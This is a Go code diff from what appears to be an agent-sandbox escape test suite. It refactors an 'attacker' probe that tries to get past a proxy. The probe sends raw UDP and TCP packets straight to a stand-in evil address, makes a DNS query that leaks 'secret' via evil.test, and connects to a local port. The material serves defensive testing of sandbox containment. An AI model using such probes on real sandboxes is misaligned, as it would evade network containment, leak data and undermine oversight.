@@ -1,6 +1,6 @@
 //go:build linux
 
-package escape_test
+package attacker
 
 import (
 	"errors"
@@ -13,6 +13,8 @@ import (
 	"time"
 
 	"golang.org/x/sys/unix"
+
+	"github.com/seed434b0696/agent-sandbox/test/e2e/escape/testnet"
 )
 
 // attackDirect sends to addresses without asking any proxy: pairs of a protocol and
@@ -63,18 +65,18 @@ func attackPatience(pipes []string) {
 		do   func() error
 	}{
 		{"the proxy", func() error {
-			answer, err := (&probe{Via: "plain", To: "http://allowed.test/"}).answer()
-			if strings.Contains(answer, verdictPermitted) {
+			answer, err := (&Probe{Via: "plain", To: "http://allowed.test/"}).answer()
+			if strings.Contains(answer, testnet.Permitted) {
 				return nil
 			}
 			return errors.Join(err, errors.New("no answer"))
 		}},
 		{"a name server", func() error { return askDirect("127.0.0.1:53") }},
 		{"a packet", func() error {
-			return sendDirect("udp", [2]int{unix.SOCK_DGRAM, 0}, netip.MustParseAddrPort(evilAddr+":53"))
+			return sendDirect("udp", [2]int{unix.SOCK_DGRAM, 0}, netip.MustParseAddrPort(testnet.EvilAddr+":53"))
 		}},
 		{"a connection", func() error {
-			return sendDirect("tcp", [2]int{unix.SOCK_STREAM, 0}, netip.MustParseAddrPort(evilAddr+":80"))
+			return sendDirect("tcp", [2]int{unix.SOCK_STREAM, 0}, netip.MustParseAddrPort(testnet.EvilAddr+":80"))
 		}},
 		{"the machine", func() error {
 			return sendDirect("tcp", [2]int{unix.SOCK_STREAM, 0}, netip.MustParseAddrPort("127.0.0.1:7001"))
@@ -85,7 +87,7 @@ func attackPatience(pipes []string) {
 		select {
 		case err := <-done:
 			report(try.name, err)
-		case <-time.After(dialPatience / 2):
+		case <-time.After(testnet.DialTimeout / 2):
 			report(try.name, errors.New("nobody answers"))
 		}
 	}
@@ -96,12 +98,12 @@ func attackPatience(pipes []string) {
 
 // askDirect asks a name server, and wants an answer.
 func askDirect(addr string) error {
-	c, err := (&net.Dialer{Timeout: dialPatience}).Dial("udp", addr)
+	c, err := (&net.Dialer{Timeout: testnet.DialTimeout}).Dial("udp", addr)
 	if err != nil {
 		return err
 	}
 	defer c.Close()
-	_ = c.SetDeadline(time.Now().Add(dialPatience / 3))
+	_ = c.SetDeadline(time.Now().Add(testnet.DialTimeout / 3))
 	query := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01"
 	if _, err := io.WriteString(c, query); err != nil {
 		return err
@@ -149,7 +151,7 @@ func sendDirect(name string, kind [2]int, to netip.AddrPort) error {
 	if err != nil && !errors.Is(err, unix.EINPROGRESS) {
 		return err
 	}
-	n, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}, int(dialPatience.Milliseconds()))
+	n, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}, int(testnet.DialTimeout.Milliseconds()))
 	if err != nil || n == 0 {
 		return errors.Join(err, errors.New("no answer"))
 	}
